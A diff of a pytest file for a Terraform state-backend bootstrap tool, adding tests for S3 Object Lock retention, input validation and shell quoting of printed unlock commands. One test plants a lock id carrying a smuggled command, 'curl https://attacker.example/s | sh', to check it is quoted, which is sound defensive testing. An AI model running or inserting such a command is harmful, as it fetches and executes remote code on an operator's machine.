@@ -8,12 +8,14 @@ from __future__ import annotations
 
 import json
 import os
+import shlex
 import urllib.request
 from pathlib import Path
 
 import boto3
 import pytest
 from botocore.config import Config
+from botocore.exceptions import ClientError
 
 from carcierge_pipeline import cli, state
 from carcierge_pipeline.errors import UserError
@@ -89,6 +91,7 @@ def test_bootstrap_creates_everything_then_changes_nothing(aws):
         "kms key",
         "s3 bucket",
         "bucket versioning",
+        "bucket object lock",
         "bucket encryption",
         "public access block",
         "bucket policy",
@@ -106,7 +109,7 @@ def test_bootstrap_creates_everything_then_changes_nothing(aws):
     assert [(i.name, i.status) for i in second.items] == [(n, state.UNCHANGED) for n in names]
     assert not second.changed
     assert second.kms_key_arn == first.kms_key_arn
-    assert state.render_bootstrap(second)[-1] == "nothing changed: all 12 items already as wanted"
+    assert state.render_bootstrap(second)[-1] == "nothing changed: all 13 items already as wanted"
     assert second.as_dict()["changed"] is False
 
 
@@ -140,6 +143,60 @@ def test_bucket_is_versioned_kms_encrypted_private_and_expires_old_versions(aws)
 
     stored = json.loads(s3.get_bucket_policy(Bucket=BUCKET)["Policy"])
     assert stored == state.bucket_policy(BUCKET)
+
+
+def test_state_versions_cannot_be_erased_within_the_lock(aws):
+    # Review 2026-12-07 M5: Object Lock in GOVERNANCE mode, 30 days unless --lock-days says
+    # otherwise; a version cannot be deleted (S3 refuses) without bypassing governance.
+    _bootstrap(aws, lock_days=45)
+    s3 = aws.s3
+    configuration = s3.get_object_lock_configuration(Bucket=BUCKET)["ObjectLockConfiguration"]
+    assert configuration["ObjectLockEnabled"] == "Enabled"
+    assert configuration["Rule"]["DefaultRetention"]["Mode"] == "GOVERNANCE"
+    assert configuration["Rule"]["DefaultRetention"]["Days"] == 45
+    s3.delete_bucket_policy(Bucket=BUCKET)  # the emulator speaks plain HTTP, which it denies
+    version = s3.put_object(Bucket=BUCKET, Key="prod/terraform.tfstate", Body=b"{}")["VersionId"]
+    assert s3.head_object(Bucket=BUCKET, Key="prod/terraform.tfstate")["ObjectLockMode"] == (
+        "GOVERNANCE"
+    )
+    with pytest.raises(ClientError, match="AccessDenied"):
+        s3.delete_object(Bucket=BUCKET, Key="prod/terraform.tfstate", VersionId=version)
+    assert state.DEFAULT_LOCK_DAYS == 30
+    default = _bootstrap(aws)  # back to the default: 30 days would weaken 45, so 45 is kept
+    assert default.status_of("bucket object lock") == state.UNCHANGED
+    assert "GOVERNANCE, 45 days (stronger than wanted; kept)" in default.items[3].detail
+
+
+def test_a_bucket_made_without_object_lock_gets_it(aws):
+    # A state bucket of an earlier bootstrap: versioned, no Object Lock. S3 allows enabling it
+    # on a versioned bucket, so it is not replaced.
+    aws.s3.create_bucket(Bucket=BUCKET, CreateBucketConfiguration={"LocationConstraint": REGION})
+    result = _bootstrap(aws)
+    assert result.status_of("s3 bucket") == state.UNCHANGED
+    assert result.status_of("bucket object lock") == state.CREATED
+    configuration = aws.s3.get_object_lock_configuration(Bucket=BUCKET)["ObjectLockConfiguration"]
+    assert configuration["Rule"]["DefaultRetention"] == {
+        **configuration["Rule"]["DefaultRetention"],
+        "Mode": "GOVERNANCE",
+        "Days": 30,
+    }
+    assert not _bootstrap(aws).changed
+
+
+def test_a_compliance_lock_is_never_weakened(aws):
+    aws.s3.create_bucket(
+        Bucket=BUCKET,
+        CreateBucketConfiguration={"LocationConstraint": REGION},
+        ObjectLockEnabledForBucket=True,
+    )
+    compliance = {"DefaultRetention": {"Mode": "COMPLIANCE", "Days": 30}}
+    aws.s3.put_object_lock_configuration(
+        Bucket=BUCKET, ObjectLockConfiguration={"ObjectLockEnabled": "Enabled", "Rule": compliance}
+    )
+    result = _bootstrap(aws)
+    assert result.status_of("bucket object lock") == state.UNCHANGED
+    rule = aws.s3.get_object_lock_configuration(Bucket=BUCKET)["ObjectLockConfiguration"]["Rule"]
+    assert rule["DefaultRetention"]["Mode"] == "COMPLIANCE"
 
 
 def test_lock_table_has_lockid_on_demand_pitr_and_encryption(aws):
@@ -278,6 +335,12 @@ def test_bucket_in_another_region_is_refused(aws, moto_endpoint):
         ({"kms_key_alias": "alias/aws/s3"}, "kms key alias must be 'alias/<name>'"),
         ({"kms_key_alias": "state-key"}, "kms key alias must be"),
         ({"noncurrent_days": 0}, "noncurrent days must be between 1 and 3650; got 0"),
+        ({"lock_days": 0}, r"lock days must be between 1 and the noncurrent days \(90\)"),
+        (
+            {"noncurrent_days": 14, "lock_days": 30},
+            r"lock days must be between 1 and the noncurrent days \(14\): old state versions are "
+            "kept at least as long as Object Lock protects them; got 30",
+        ),
     ],
 )
 def test_bad_inputs_are_refused_before_calling_aws(overrides, message):
@@ -294,7 +357,7 @@ def test_cli_bootstrap_reports_each_item_then_nothing_changed(
     assert cli.main(["state", "bootstrap"]) == 0
     out = capsys.readouterr().out.splitlines()
     assert out[0] == f"state backend s3://{BUCKET} + table {TABLE} ({REGION})"
-    assert out[-1] == "12 of 12 items changed"
+    assert out[-1] == "13 of 13 items changed"
     assert cli.main(["state", "bootstrap", "--json"]) == 0
     result = json.loads(capsys.readouterr().out)
     assert result["changed"] is False
@@ -345,6 +408,7 @@ REPLICA_ITEMS = [
     "replica kms key",
     "replica bucket",
     "replica versioning",
+    "replica object lock",
     "replica encryption",
     "replica public access block",
     "replica bucket policy",
@@ -358,9 +422,9 @@ REPLICA_ITEMS = [
 def test_replica_is_created_then_nothing_changes(aws):
     first = _bootstrap(aws, replica_region=REPLICA_REGION)
     names = [item.name for item in first.items]
-    assert names[:12] == [item.name for item in _bootstrap(aws).items]  # the primary, unchanged
-    assert names[12:] == REPLICA_ITEMS
-    assert {item.status for item in first.items[12:]} == {state.CREATED}
+    assert names[:13] == [item.name for item in _bootstrap(aws).items]  # the primary, unchanged
+    assert names[13:] == REPLICA_ITEMS
+    assert {item.status for item in first.items[13:]} == {state.CREATED}
     assert first.replica_bucket == REPLICA_BUCKET
     assert f":{REPLICA_REGION}:" in first.replica_kms_key_arn
 
@@ -371,7 +435,7 @@ def test_replica_is_created_then_nothing_changes(aws):
         f"state backend s3://{BUCKET} + table {TABLE} ({REGION})",
         f"replicated to s3://{REPLICA_BUCKET} ({REPLICA_REGION})",
     ]
-    assert state.render_bootstrap(second)[-1] == "nothing changed: all 22 items already as wanted"
+    assert state.render_bootstrap(second)[-1] == "nothing changed: all 24 items already as wanted"
 
 
 def test_replica_bucket_key_and_replication_configuration(aws, moto_endpoint):
@@ -515,7 +579,7 @@ def test_cli_bootstrap_with_replica_region(aws, moto_endpoint, monkeypatch, caps
     assert cli.main(command) == 0
     out = capsys.readouterr().out.splitlines()
     assert out[1] == f"replicated to s3://{REPLICA_BUCKET} ({REPLICA_REGION})"
-    assert out[-1] == "22 of 22 items changed"
+    assert out[-1] == "24 of 24 items changed"
     assert cli.main([*command, "--json"]) == 0
     result = json.loads(capsys.readouterr().out)
     assert result["changed"] is False
@@ -615,6 +679,18 @@ def test_lock_held_in_one_store_or_under_two_ids(backend):
         "terraform force-unlock aaaa",
         "terraform force-unlock bbbb",
     ]
+
+
+def test_a_planted_lock_id_is_quoted_not_run(backend):
+    # Review 2026-12-07 L7: whoever can write the lock item chooses the id an operator pastes.
+    planted = "x; curl https://attacker.example/s | sh #"
+    _hold_in_dynamodb(backend, planted)
+    status = state.lock_status("qa", clients=backend, echo=None)
+    [command] = status.unlock_commands()
+    assert shlex.split(command) == ["terraform", "force-unlock", planted]
+    assert all(
+        word.startswith("-backend-config=") for word in shlex.split(status.init_command())[4:]
+    )
 
 
 def test_cli_lock_prints_force_unlock(backend, moto_endpoint, monkeypatch, capsys):
